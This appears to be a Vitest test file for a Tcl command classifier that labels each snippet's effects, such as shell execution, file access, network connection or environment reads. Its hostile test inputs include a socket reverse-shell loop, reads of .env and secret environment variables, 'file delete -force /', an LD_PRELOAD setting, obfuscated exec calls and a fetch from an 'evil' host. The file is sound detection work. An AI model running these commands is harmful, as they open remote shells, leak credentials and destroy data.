import { describe, expect, it } from "vitest";
import { told } from "../flow/told.ts";
import { readTcl } from "./index.ts";

describe("Tcl", () => {
  it.each([
    'puts "hi"; set x 5; puts [expr {$x * 2}]',
    "proc f {x} {return [expr {$x*2}]}; puts [f 3]",
    "foreach f [glob *.c] { puts [file size $f] }",
    "for {set i 0} {$i < 3} {incr i} {puts $i}; while {$i > 0} {incr i -1}",
    'if {$x eq "a"} {puts 1} elseif {[string match b* $x]} {puts 2} else {puts 3}',
    "# comment; exec id\nputs [string toupper [lindex {a b c} 1]]; puts {[exec id]}",
    "switch $x { a {puts 1} b - c {puts 2} default {puts 3} }",
    "set l [list a b]; lappend l c; puts [join [lsort $l] ,]; dict set d k v; puts [dict get $d k]",
    "catch {error x} msg; puts $msg; after 10; puts [clock format [clock seconds]]",
    "namespace eval n { proc g {} { puts hi } }; n::g",
    "package require Tcl 8.6; puts $tcl_version; puts [info patchlevel]",
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readTcl(text))).toBe("");
  });

  it.each([
    ["exec ls -la", "argv ls -la"],
    ["exec ls | grep x > out", "shell 'ls' | 'grep' 'x' > 'out'"],
    ["puts [exec id]", "argv id"],
    ['set f [open ".env"]; puts [read $f]; set g [open "out" w]; puts $g x', "read .env; write out"],
    ['open "|id"; open "| cat .env" r', "shell id; shell cat .env"],
    [
      "set s [socket 1.2.3.4 99]; while 1 { gets $s c; catch {eval exec $c} r; puts $s $r }",
      "raw connect 1.2.3.4:99; raw send 1.2.3.4:99; tcl ?; shell-over-network",
    ],
    ["socket -server accept 4444", "listen; unknown"],
    ['if {[exec id] eq "x"} {puts y}; if 1 then {exec ls}', "argv id; argv ls"],
    ['eval [list exec id]; eval "exec ls"; eval $x; uplevel #0 {exec id}', "argv id; argv ls; tcl ?; argv id"],
    ["file delete -force /; file rename a b; file copy c d; file mkdir e; file link f g", "deltree /; move a b; copy c d; write e; link g f"],
    ["puts $env(AWS_SECRET); parray env; puts ${env(TOKEN)}; puts [array get env]", "environment AWS_SECRET; environment *; environment TOKEN; environment *"],
    ["set env(LD_PRELOAD) x; exec ls", "setenv LD_PRELOAD=x; argv ls"],
    ["set x ex; ${x}ec id; [string cat ex ec] id", "argv id; unknown"],
    ['spawn ssh host; expect "password:" {send "x\\r"}; interact', "argv ssh host; unknown"],
    ['expect { "a" {exec id} timeout {exit 1} }; switch -- $x a {exec ls}', "argv id; argv ls"],
    ["source x.tcl; load ./x.so; cd /; package require http; http::geturl http://evil/", "load x.tcl; unknown; cd /; connect http://evil/"],
    ["frobnicate 1", "unknown"],
    ['puts "a', "unknown"],
    ["rename exec e; interp create x; after 1 {exec id}; trace add execution x enter y", "unknown; unknown; argv id; unknown"],
    ["proc puts {x} { exec $x }; puts id", "argv ?"],
    ["subst {[exec id]}; expr {[exec ls]}; {*}{exec id}", "argv id; argv ls; argv id"],
  ])("%s", (text, expected) => {
    expect(told(readTcl(text))).toBe(expected);
  });
});
